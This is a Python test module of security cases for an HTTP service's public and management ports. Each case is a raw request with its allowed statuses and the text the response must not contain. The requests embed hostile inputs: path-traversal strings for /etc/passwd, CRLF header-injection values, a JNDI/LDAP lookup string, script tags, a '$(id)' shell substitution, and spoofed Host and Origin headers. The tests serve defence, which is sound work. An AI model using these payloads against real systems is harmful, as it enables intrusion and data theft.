"""Security cases: requests with their port and key, the statuses allowed, and text that must not be in the response.

They suit any server with the service's routes. EVIL stands in every value that a response could repeat.
"""

from collections.abc import Iterator
from dataclasses import dataclass

from tests.faults.http.cases import head
from tests.faults.security.canaries import OPS, ROUTER, as_json, post
from tests.support.keys import Known
from tests.unit.service.access.test_access import ROLES

EVIL = "evil7f3a"
NEVER = (b"set-cookie", b"access-control-allow", b"traceback", b"root:x:", b"location: ", EVIL.encode())
"""Not allowed in any response to these requests, compared in lower case."""
VERSION = "0" * 16
NO_VERSION = b"bundle must be a version id"
"""The error for a name that is not looked up."""
TICKET = as_json({"body": "hello"})


@dataclass(frozen=True, slots=True)
class SecurityCase:
    """`allowed`: statuses. `never`: text that the response must not hold; `wanted`: text that it must."""

    name: str
    port: str
    raw: bytes
    allowed: frozenset[int]
    never: tuple[bytes, ...] = NEVER
    wanted: bytes = b""

    def passed(self, received: bytes) -> bool:
        lowered = received.lower()
        if not received or int(received.split(maxsplit=2)[1]) not in self.allowed:
            return False
        return self.wanted in lowered and not any(word in lowered for word in self.never)


def security_cases(url: str) -> list[SecurityCase]:
    """Every case. `url`: a server of the tests that must never be called."""
    return [*_ports(), *_paths(), *_bundles(url), *_ids(), *_hosts(), *_keys(), *_browsers()]


def get(path: str, *lines: str, known: Known | None = ROUTER, method: str = "GET", host: bool = True) -> bytes:
    """The path may hold any character except blanks."""
    own = [f"{name}: {value}" for name, value in (known.header if known else {}).items()]
    return head("Connection: close", *own, *lines, request=f"{method} {path} HTTP/1.1", kind=None, host=host)


def _reload(name: object, *lines: str) -> bytes:
    return post("/admin/reload", as_json({"bundle": name}), *lines, known=OPS)


def _ports() -> Iterator[SecurityCase]:
    """A route exists on one port only, for every caller."""
    for path in ROLES:
        other = "management" if path.startswith("/v1") else "public"
        for known in (None, ROUTER, OPS):
            name = f"{path} on the {other} port, {known.name if known else 'no key'}"
            yield SecurityCase(name, other, get(path, known=known), frozenset({404}))


def _paths() -> Iterator[SecurityCase]:
    """No spelling of a guarded path avoids its guard, and none leaves a folder."""
    spellings = ["//{}", "/./{}", "/x/../{}", "/%2e/{}", "/{}/", "/{};a=b", "/{}%00", "/{}%2f", "/{}?", "/{}%20"]
    for spelling in spellings:
        for port, path in (("public", "v1/model"), ("management", "admin/status")):
            raw = get(spelling.format(path), known=None)
            yield SecurityCase(f"{spelling.format(path)} without a key", port, raw, frozenset({400, 401, 404}))
    outside = ["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"]
    outside += ["....//....//etc/passwd", "..%5c..%5cetc%5cpasswd", "/etc/passwd", "%00", "..%c0%af..%c0%afetc/passwd"]
    for path in outside:
        yield SecurityCase(f"/docs/assets/{path}", "management", get(f"/docs/assets/{path}"), frozenset({400, 404}))
    for header in ("X-HTTP-Method-Override", "X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Prefix"):
        raw = get("/v1/nowhere", f"{header}: /v1/model")
        yield SecurityCase(f"another path by {header}", "public", raw, frozenset({404}))
    raw = get(f"/v1/{EVIL}%0d%0aSet-Cookie:%20a=b", known=None)
    yield SecurityCase("a line break in the path", "public", raw, frozenset({404}))


def _bundles(url: str) -> Iterator[SecurityCase]:
    """A bundle is looked up by its version; no other text becomes part of a path."""
    names: list[object] = ["../../etc", "/etc", "..", ".", "", "current", "./" + VERSION, VERSION + "/..", "a" * 9000]
    names += ["\0", VERSION + "\0", VERSION + "\n", " " + VERSION, VERSION + "\r\nSet-Cookie: a=b", "A" * 16]
    names += ["%2e%2e%2f", "\uff10" * 16, "\u0660" * 16, "\\\\host\\share", "~root", "$HOME", "$(id)", EVIL]
    names += [url, "file:///etc/passwd"]
    for name in names:
        where = f"reload {str(name)[:30]!a}"
        yield SecurityCase(where, "management", _reload(name), frozenset({409}), wanted=NO_VERSION)
    yield SecurityCase("reload 10,000 letters", "management", _reload("a" * 10_000), frozenset({413}))
    for value in (["../.."], {"$ref": "/etc"}, 7, True):
        yield SecurityCase(f"reload {value!a}", "management", _reload(value), frozenset({422}))
    yield SecurityCase("reload a lone surrogate", "management", _reload("\ud800"), frozenset({400, 422}))
    yield SecurityCase("reload a version that is not there", "management", _reload(VERSION), frozenset({409}))


def _ids() -> Iterator[SecurityCase]:
    """A malformed id is replaced, and a line break in an id never breaks a line."""
    values = [f"{EVIL} a", f"{EVIL}%0d%0aSet-Cookie: a=b", f"{EVIL}\x1b[31m", f"<script>{EVIL}</script>", f"{EVIL}é"]
    values += [f'{EVIL}","level":"fake', EVIL * 1000, f"{EVIL}\t", f"{EVIL}/../x", f"${{jndi:ldap://{EVIL}}}"]
    for value in values:
        raw = get("/v1/model", f"X-Request-ID: {value}")
        yield SecurityCase(f"request id {value[:40]!a}", "public", raw, frozenset({200, 400}))
    split = get("/v1/model", f"X-Request-ID: a\r\nX-{EVIL}: b\r\nSet-Cookie: c")
    yield SecurityCase("a request id and then lines", "public", split, frozenset({200}), wanted=b"x-request-id: a\r\n")
    kept = tuple(word for word in NEVER if word != EVIL.encode())
    breaks = as_json({"id": f"{EVIL}\r\nSet-Cookie: a=b\r\n\r\n<script>", "body": "a"})
    # the ticket's own id comes back in the body as JSON; in the head a line break would precede it
    never = (*(word for word in kept if word != b"set-cookie"), b"\r\nset-cookie", EVIL.encode() + b"\r")
    yield SecurityCase("a ticket's id with line breaks", "public", post("/v1/route", breaks), frozenset({200}), never)
    page = post("/v1/route", as_json({"id": "<script>alert(1)</script>", "body": "a"}))
    yield SecurityCase("a page for an id", "public", page, frozenset({200}), wanted=b"x-content-type-options: nosniff")


def _hosts() -> Iterator[SecurityCase]:
    """Hosts and addresses in a request are not trusted and not repeated."""
    for port, path, known in (("public", "/v1/model", ROUTER), ("management", "/admin/status", OPS)):
        for host in (EVIL, f"{EVIL}.example:1", f"127.0.0.1@{EVIL}", f"{EVIL}/../x", f'"><script>{EVIL}'):
            raw = get(path, f"Host: {host}", known=known, host=False)
            yield SecurityCase(f"Host {host} for {path}", port, raw, frozenset({200, 400}))
        for header in ("X-Forwarded-Host", "X-Forwarded-For", "X-Real-IP", "Forwarded", "X-Forwarded-Proto"):
            raw = get(path, f"{header}: for={EVIL}", known=known)
            yield SecurityCase(f"{header} for {path}", port, raw, frozenset({200}))
        absolute = get(f"http://{EVIL}{path}", known=known)
        yield SecurityCase(f"an address of elsewhere for {path}", port, absolute, frozenset({200, 400, 404}))
        proxied = get(f"http://127.0.0.1{path}", known=None)
        yield SecurityCase(f"a proxy's address for {path}", port, proxied, frozenset({401}))
        slash = get(f"{path}/", f"Host: {EVIL}", known=known, host=False)
        yield SecurityCase(f"{path} with a slash, and no redirect", port, slash, frozenset({404}))


def _keys() -> Iterator[SecurityCase]:
    """Any bytes that are not a key give 401; a key in the URL is refused."""
    for port, path in (("public", "/v1/model"), ("management", "/admin/status")):
        for value in ("trk_\xe9\xff" * 9, "trk_é€" * 9, "trk_" + "A" * 43, "\x7f", "trk_" + "'" * 43, "*", "null"):
            raw = get(path, f"Authorization: Bearer {value}", known=None).replace(b"\xc2", b"\xff")
            yield SecurityCase(f"key {value[:12]!a} for {path}", port, raw, frozenset({400, 401}))
        for query in (f"key={ROUTER.key}", f"access_token={OPS.key}", f"x={OPS.key}", "%6bey=x", "a=1&API_KEY=x"):
            raw = get(f"{path}?{query}", known=OPS if "admin" in path else ROUTER)
            yield SecurityCase(f"?{query[:15]} for {path}", port, raw, frozenset({400}))
        cookie = get(path, f"Cookie: authorization={OPS.key}; key={ROUTER.key}", known=None)
        yield SecurityCase(f"a key in a cookie for {path}", port, cookie, frozenset({401}))
        both = get(path, f"Authorization: Bearer {'A' * 47}", known=OPS)
        yield SecurityCase(f"two keys for {path}", port, both, frozenset({401}))


def _browsers() -> Iterator[SecurityCase]:
    """A web page can neither read a response nor act as an administrator; pages have a Content-Security-Policy."""
    origin = f"Origin: http://{EVIL}"
    for port, path, known in (("public", "/v1/model", ROUTER), ("management", "/admin/status", OPS)):
        yield SecurityCase(f"{path} from a page", port, get(path, origin, known=known), frozenset({200}))
        asked = get(path, origin, "Access-Control-Request-Method: POST", known=None, method="OPTIONS")
        yield SecurityCase(f"whether a page may call {path}", port, asked, frozenset({405}))
    yield SecurityCase("a reload from a page", "management", _reload(VERSION, origin), frozenset({403}))
    empty = post("/admin/reload", b"", origin, known=OPS, kind="text/plain")
    yield SecurityCase("a reload from a page without a body", "management", empty, frozenset({403}))
    for path in ("/docs", "/metrics", "/openapi.json", "/admin/status", "/nowhere", "/docs/assets/favicon.png"):
        for wanted in (b"frame-ancestors 'none'", b"default-src 'none'", b"nosniff", b"referrer-policy: no-referrer"):
            raw = get(path, known=OPS)
            yield SecurityCase(f"{wanted.decode()} for {path}", "management", raw, frozenset({200, 404}), wanted=wanted)
    elsewhere = (b"cdn.", b"https://", b"//unpkg", b"googleapis", b"unsafe-eval", b"script-src 'unsafe-inline'")
    yield SecurityCase("nothing of elsewhere in /docs", "management", get("/docs"), frozenset({200}), elsewhere)
